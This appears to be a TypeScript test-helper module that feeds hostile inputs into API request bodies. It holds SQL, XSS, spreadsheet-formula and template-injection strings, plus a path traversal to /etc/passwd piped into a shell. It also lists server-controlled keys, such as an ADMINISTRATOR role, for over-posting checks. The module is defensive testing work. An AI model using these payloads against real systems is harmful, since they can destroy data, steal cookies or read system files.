import { type Description, type Schema } from './description.js';

/** Texts made to be run by somebody: the database, a browser, a spreadsheet, a template, a shell. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  SQL: `x'); drop table operation cascade; select pg_sleep(9); --`,
  HTML: `<img src=x onerror="alert(1)"><script>alert(document.cookie)</script>`,
  formula: `=HYPERLINK("https://example.org/?"&A1;"voir")`,
  template: `\${7*7}{{constructor.constructor("return process")()}}<%= 7*7 %>`,
  path: '../../../../etc/passwd; cat /etc/hosts | sh',
};

/** Keys that no body may bring: what the server decides by itself, under the names of the API and of the tables. */
export const FORBIDDEN_KEYS: Readonly<Record<string, unknown>> = {
  id: 1,
  version: 1,
  territoryId: 1,
  territory_id: 1,
  operationTerritoryId: 1,
  registeredByTerritoryId: 1,
  authorityId: 1,
  firmId: 1,
  userId: 1,
  recordedByUserId: 1,
  role: 'ADMINISTRATOR',
  isDisabled: false,
  isDemonstration: true,
  passwordHash: 'none',
  stage: 'OPEN',
  eligibleUntil: '2049-12-31',
  status: 'SENT',
  unheardOf: true,
};

type Path = readonly (string | number)[];

/** A text of a body: where it stands, and how long it may be. */
export interface TextField {
  readonly path: Path;
  readonly maxLength: number;
}

/** Every text of a body as the description tells it, however deep; lists through their first item. */
export function textFieldsOf(description: Description, schema: Schema, path: Path = []): TextField[] {
  const { type, items, properties, enum: values, maxLength } = description.resolve(schema);
  if (properties) {
    return Object.entries(properties).flatMap(([name, one]) =>
      textFieldsOf(description, one, [...path, name]),
    );
  }
  if (type === 'array' && items) return textFieldsOf(description, items, [...path, 0]);
  const isText = [type].flat().includes('string') && values === undefined;
  return isText ? [{ path, maxLength: maxLength ?? Number.POSITIVE_INFINITY }] : [];
}

/** A copy of a body with a value somewhere in it; the objects on the way are made when they are missing. */
export function withValue(body: unknown, [key, ...rest]: Path, value: unknown): unknown {
  if (key === undefined) return value;
  if (typeof key === 'number') {
    const list = Array.isArray(body) ? body : [];
    return [withValue(list[key], rest, value), ...list.slice(1)];
  }
  const object = typeof body === 'object' && body !== null ? body : {};
  return { ...object, [key]: withValue((object as Record<string, unknown>)[key], rest, value) };
}
